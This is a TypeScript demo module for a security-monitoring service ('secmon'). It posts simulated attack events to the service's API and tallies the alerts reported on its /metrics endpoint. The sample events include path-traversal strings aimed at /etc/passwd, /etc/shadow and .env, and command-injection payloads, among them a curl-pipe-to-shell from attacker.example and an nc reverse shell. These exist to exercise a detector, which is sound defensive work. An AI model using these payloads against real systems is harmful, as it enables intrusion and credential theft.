import { SingleBar } from 'cli-progress';

/** One event as the event API takes it. */
type DemoEvent = Record<string, unknown> & { type: string };

interface Step {
  title: string;
  events: DemoEvent[];
}

/** Options of {@link runDemo}. */
export interface DemoOptions {
  /** Base URL of a running secmon service, e.g. `http://127.0.0.1:9870`. */
  target: string;
  /** One of the service's ingest tokens. */
  token: string;
  /** Where progress goes (a bar on a terminal, a line per step otherwise). Default `process.stderr`. */
  progress?: NodeJS.WriteStream | NodeJS.WritableStream;
  /** Events per request. Default 25. */
  batchSize?: number;
  /** A bearer token for the service's `/metrics`, when it requires one. */
  metricsToken?: string;
}

/**
 * What this run changed on the service's `/metrics` (read before and after it): alerts raised and
 * attacks ended by type, and counters (`*_total`, by how much they grew); attacks in progress and
 * other gauges as they are after the run. Other traffic reaching the service at the same time is
 * counted too.
 */
export interface DemoSummary {
  eventsSent: number;
  requests: number;
  /** Firing alerts raised, per type (`secmon_alerts_total`: first alerts and re-alerts of an attack). */
  alerts: Record<string, number>;
  /** Attacks in progress after the run, per type (`secmon_active_alerts`). */
  activeAlerts: Record<string, number>;
  /** Attacks that ended during the run, per type (`secmon_alerts_resolved_total`). */
  resolvedAlerts: Record<string, number>;
  metrics: Record<string, number>;
}

/**
 * Sends a realistic attack mix through the event API of a running service — brute force from a few
 * addresses, an attacker rotating addresses inside one IPv6 /64, credential stuffing followed by a
 * successful login, a distributed attack on one account, addresses rotated inside one network, a
 * botnet spraying one password (a failed-login surge), path traversal, command injection, privileged
 * and suspicious containers, a rate-limited client that keeps coming, and benign failed logins below
 * every threshold — then reads what this run changed on the service's `/metrics`: alerts raised,
 * attacks in progress and attacks ended, per type.
 * Throws with the service's own error message if it refuses a request, and with the URL and the
 * cause (e.g. `ECONNREFUSED`) if it cannot be reached.
 */
export async function runDemo(options: DemoOptions): Promise<DemoSummary> {
  const base = new URL(options.target);
  const eventsUrl = new URL('/v1/events', base);
  const metricsUrl = new URL('/metrics', base);
  const before = await readMetrics(metricsUrl, options.metricsToken);
  const batchSize = options.batchSize ?? 25;
  const steps = attackMix();
  const total = steps.reduce((sum, step) => sum + step.events.length, 0);
  const out = options.progress ?? process.stderr;
  const bar =
    'isTTY' in out && out.isTTY
      ? new SingleBar({ format: ' {bar} {value}/{total} events | {step}', stream: out, hideCursor: true })
      : undefined;
  bar?.start(total, 0, { step: steps[0]?.title ?? '' });

  let sent = 0;
  let requests = 0;
  try {
    for (const step of steps) {
      if (bar) bar.update(sent, { step: step.title });
      else out.write(`demo: ${step.title} (${step.events.length} events)\n`);
      for (let i = 0; i < step.events.length; i += batchSize) {
        const events = step.events.slice(i, i + batchSize);
        const response = await reach(eventsUrl, {
          method: 'POST',
          headers: { 'content-type': 'application/json', authorization: `Bearer ${options.token}` },
          body: JSON.stringify({ events }),
          signal: AbortSignal.timeout(10_000),
        });
        requests++;
        const answer = (await response.json().catch(() => ({}))) as { error?: string; accepted?: number };
        if (response.status !== 202) {
          throw new Error(
            `the service refused the demo events (${response.status}): ${answer.error ?? 'no message'}`,
          );
        }
        sent += events.length;
        bar?.update(sent);
      }
    }
  } finally {
    bar?.stop();
  }
  const after = await readMetrics(metricsUrl, options.metricsToken);
  const metrics: Record<string, number> = {};
  for (const [name, value] of Object.entries(after.metrics)) {
    metrics[name] = name.endsWith('_total') ? value - (before.metrics[name] ?? 0) : value;
  }
  return {
    eventsSent: sent,
    requests,
    alerts: growth(before.alerts, after.alerts),
    activeAlerts: after.activeAlerts,
    resolvedAlerts: growth(before.resolvedAlerts, after.resolvedAlerts),
    metrics,
  };
}

/** How much each counter grew between two readings. */
function growth(before: Record<string, number>, after: Record<string, number>): Record<string, number> {
  const grown: Record<string, number> = {};
  for (const [key, value] of Object.entries(after)) grown[key] = value - (before[key] ?? 0);
  return grown;
}

/** `fetch`, with an error that names the URL and the network cause when the service cannot be reached. */
async function reach(url: URL, init: RequestInit): Promise<Response> {
  try {
    return await fetch(url, init);
  } catch (error) {
    const cause = (error as { cause?: { code?: string; message?: string } }).cause;
    const why =
      (error as Error).name === 'TimeoutError'
        ? 'no answer within 10 s'
        : (cause?.code ?? cause?.message ?? (error as Error).message);
    throw new Error(`cannot reach ${url.href} (${why}): is secmon serve running there?`);
  }
}

async function readMetrics(
  url: URL,
  token: string | undefined,
): Promise<Omit<DemoSummary, 'eventsSent' | 'requests'>> {
  const headers: Record<string, string> = token === undefined ? {} : { authorization: `Bearer ${token}` };
  const response = await reach(url, { headers, signal: AbortSignal.timeout(10_000) });
  if (!response.ok) {
    const hint = response.status === 401 ? ': it requires a token (SECMON_METRICS_TOKEN)' : '';
    throw new Error(`could not read ${url.href} (${response.status})${hint}`);
  }
  const text = await response.text();
  const summary: Omit<DemoSummary, 'eventsSent' | 'requests'> = {
    alerts: {},
    activeAlerts: {},
    resolvedAlerts: {},
    metrics: {},
  };
  // Per-type series, by the end of their name (the service's metric prefix may differ).
  const perType: Array<[suffix: string, into: Record<string, number>]> = [
    ['alerts_total', summary.alerts],
    ['active_alerts', summary.activeAlerts],
    ['alerts_resolved_total', summary.resolvedAlerts],
  ];
  for (const line of text.split('\n')) {
    if (line.startsWith('#') || line.trim() === '') continue;
    const match = /^([a-zA-Z_:][a-zA-Z0-9_:]*)(\{[^}]*\})? (\S+)/.exec(line);
    if (!match) continue;
    const [, name = '', labels = '', value = '0'] = match;
    const target = perType.find(([suffix]) => name.endsWith(`_${suffix}`))?.[1];
    if (target) {
      const type = /type="([^"]+)"/.exec(labels)?.[1];
      if (type) target[type] = Number(value);
    } else if (
      !labels &&
      /^secmon_|_total$|_ips$|_accounts$/.test(name) &&
      !name.startsWith('process_') &&
      !name.startsWith('nodejs_')
    ) {
      summary.metrics[name] = Number(value);
    }
  }
  return summary;
}

/** Formats a summary for people: per alert type, alerts raised, attacks still active, attacks ended. */
export function formatSummary(summary: DemoSummary): string {
  const lines = [
    `sent ${summary.eventsSent} events in ${summary.requests} requests`,
    '',
    'alerts by type: raised and ended by this run, in progress after it',
    `${'alert type'.padEnd(30)} ${'raised'.padStart(6)} ${'active'.padStart(6)} ${'ended'.padStart(6)}`,
  ];
  for (const [type, count] of Object.entries(summary.alerts)) {
    const active = summary.activeAlerts[type] ?? 0;
    const ended = summary.resolvedAlerts[type] ?? 0;
    lines.push(
      `  ${type.padEnd(28)} ${String(count).padStart(6)} ${String(active).padStart(6)} ${String(ended).padStart(6)}`,
    );
  }
  lines.push(
    '',
    'raised: alerts sent (secmon_alerts_total); active: attacks still going on (secmon_active_alerts);',
    'ended: attacks resolved (secmon_alerts_resolved_total). Threshold attacks end once they stay below',
    'their threshold; one-shot attacks after a quiet period (SECMON_QUIET_PERIOD_MS).',
    '',
    'counters (growth during this run) and gauges:',
  );
  for (const [name, value] of Object.entries(summary.metrics)) lines.push(`  ${name.padEnd(48)} ${value}`);
  return `${lines.join('\n')}\n`;
}

function attackMix(): Step[] {
  const repeat = (n: number, make: (i: number) => DemoEvent) => Array.from({ length: n }, (_, i) => make(i));
  const bruteForcers = ['203.0.113.10', '203.0.113.11', '198.51.100.23'];
  const stuffer = '198.51.100.77';
  return [
    {
      title: 'benign failed logins (typos, below every threshold)',
      events: repeat(20, (i) => ({
        type: 'failed_auth',
        ip: `192.0.2.${10 + (i % 10)}`,
        userId: `user${i % 10}`,
      })),
    },
    {
      title: 'brute force from three addresses',
      events: repeat(45, (i) => ({
        type: 'failed_auth',
        ip: bruteForcers[i % 3]!,
        userId: ['admin', 'root', 'deploy'][i % 3]!,
      })),
    },
    {
      title: 'brute force rotating addresses inside one IPv6 /64',
      events: repeat(15, (i) => ({
        type: 'failed_auth',
        ip: `2001:db8:bad:1::${(i + 1).toString(16)}`,
        userId: 'admin',
      })),
    },
    {
      title: 'credential stuffing: one address, a leaked list of 12 accounts, one try each',
      events: repeat(12, (i) => ({ type: 'failed_auth', ip: stuffer, userId: `customer${i}@example.com` })),
    },
    {
      title: '... and one of those logins works (account compromise suspected)',
      events: [{ type: 'successful_auth', ip: stuffer, userId: 'customer12@example.com' }],
    },
    {
      title: 'a distributed attack on one account: 24 addresses in 24 networks, one try each',
      events: repeat(24, (i) => ({ type: 'failed_auth', ip: `198.18.${i}.1`, userId: 'cfo' })),
    },
    {
      title: 'addresses rotated inside one /24, one failed login each',
      events: repeat(35, (i) => ({ type: 'failed_auth', ip: `198.19.5.${i + 1}`, userId: `staff${i}` })),
    },
    {
      // A surge is measured against what secmon learned: a service that started less than a minute
      // (a window of whole minutes) before has nothing to compare with and raises none.
      title:
        'a botnet spraying one password: 120 networks, 120 accounts (a surge, once secmon has a minute of history)',
      events: repeat(120, (i) => ({
        type: 'failed_auth',
        ip: `100.${64 + Math.floor(i / 256)}.${i % 256}.7`,
        userId: `member${i}`,
      })),
    },
    {
      title: 'path traversal',
      events: [
        '../../../../etc/passwd',
        '..%2f..%2f..%2fetc%2fshadow',
        '....//....//windows/win.ini',
        '/static/%2e%2e/%2e%2e/app/.env',
      ].map((path, i) => ({ type: 'path_traversal', ip: `198.51.100.${40 + i}`, path })),
    },
    {
      title: 'command injection',
      events: [
        'report.pdf; cat /etc/passwd',
        '$(curl -s http://attacker.example/x.sh | sh)',
        'name`id`',
        'a|nc -e /bin/sh 198.51.100.9 4444',
      ].map((input, i) => ({ type: 'command_injection', ip: `198.51.100.${50 + i}`, input })),
    },
    {
      title: 'privileged and suspicious containers',
      events: [
        { type: 'privileged_container', userId: 'ci-runner' },
        { type: 'privileged_container', userId: 'intern' },
        {
          type: 'suspicious_container',
          userId: 'ci-runner',
          reasons: ['mounts /var/run/docker.sock', 'hostNetwork'],
        },
        {
          type: 'suspicious_container',
          userId: 'intern',
          reasons: ['adds capability SYS_ADMIN', 'runs as root'],
        },
      ],
    },
    {
      title: 'a rate-limited client that keeps coming',
      events: repeat(10, () => ({ type: 'rate_limit_exceeded', ip: '203.0.113.99', userId: 'scraper' })),
    },
  ];
}
